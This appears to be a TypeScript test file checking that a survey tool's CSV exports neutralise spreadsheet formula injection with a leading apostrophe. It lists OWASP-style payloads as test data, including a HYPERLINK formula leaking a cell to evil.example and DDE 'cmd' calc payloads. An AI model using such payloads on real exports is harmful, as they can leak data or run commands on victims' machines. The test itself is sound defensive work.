// Finding 3 of the attack review (issue 21): free-text answers such as =HYPERLINK(...), +cmd|' /C calc'!A0, -2+3
// and @SUM(...) were written verbatim to CSV, where Excel and WPS run them as formulas. Every CSV the product
// writes goes through one writer (src/util/csv.ts) that neutralises them as OWASP recommends: a leading apostrophe
// on text beginning with = + - @, a tab or a carriage return. Numbers stay numbers.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { importResponses } from '../../../src/interchange/responses/index.ts';
import type { EstimateOutput } from '../../../src/survey/output.ts';
import { formatEstimates } from '../../../src/survey/output.ts';
import { csvCell } from '../../../src/util/csv.ts';
import { utf8 } from '../../fixtures/interchange/files.ts';
import { newDatabase } from '../../fixtures/interchange/forms.ts';
import { runCli } from '../../helpers/cli.ts';
import { tempDir } from '../../helpers/tmp.ts';

// The payloads of OWASP's "CSV Injection" page and of the attack review.
const attacks = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('no cell of a CSV the product writes can start a formula', () => {
  it('the writer: text that starts like a formula gets an apostrophe; numbers and plain text are as they were', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell(0.125)).toBe('0.125');
    expect(csvCell('城镇')).toBe('城镇');
    expect(csvCell('a "quote"')).toBe('"a ""quote"""');
    expect(csvCell(null)).toBe('');
  });

  it('export data: free-text answers that look like formulas are written as text', async () => {
    const dir = tempDir();
    const dbFile = join(dir, 's.db');
    const db = newDatabase(dbFile);
    // The import trims blanks at the ends of a cell, so the tab and CR payloads are the writer's test above.
    const stored = attacks.slice(0, 4);
    const rows = stored.map((a, i) => `inj-${i},${30 + i},male,"${a.replace(/"/g, '""')}"`);
    const r = await importResponses(db, utf8(`instanceID,age,sex,region\n${rows.join('\n')}\n`), {
      fileName: 'x.csv',
      formId: 'office_test',
    });
    expect(r.status).toBe('imported');
    db.close();
    const out = join(dir, 'data.csv');
    expect((await runCli('export', 'data', '--db', dbFile, '--out', out)).err).toBe('');
    const parsed = Papa.parse<string[]>(readFileSync(out).subarray(3).toString('utf8'), { skipEmptyLines: true }).data;
    const region = parsed[0]!.indexOf('region');
    const age = parsed[0]!.indexOf('age');
    const byId = new Map(parsed.slice(1).map((r) => [r[0], r]));
    stored.forEach((a, i) => {
      const row = byId.get(`inj-${i}`)!;
      // The cell as a spreadsheet reads it: the answer behind an apostrophe, never a formula.
      expect(row[region]).toBe(`'${a}`);
      expect(row[age]).toBe(String(30 + i));
    });
    for (const line of parsed) for (const cell of line) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('estimates as CSV: a domain named like a formula is neutralised, negative numbers stay numbers', () => {
    const out = {
      estimates: [
        {
          domain: { region: '=cmd|calc' },
          estimate: -0.25,
          se: 0.01,
          ci: [-0.27, -0.23],
          df: 10,
          deff: 1.2,
          n: 100,
          n_eff: 80,
          sum_w: 1000,
          flags: [],
          proportion: false,
        },
      ],
    } as unknown as EstimateOutput;
    const [head, line] = formatEstimates(out, 'csv');
    expect(head).toBe('region,estimate,se,ci_low,ci_high,df,deff,n,n_eff,sum_w,flags');
    expect(line).toBe("'=cmd|calc,-0.25,0.01,-0.27,-0.23,10,1.2,100,80,1000,");
  });
});
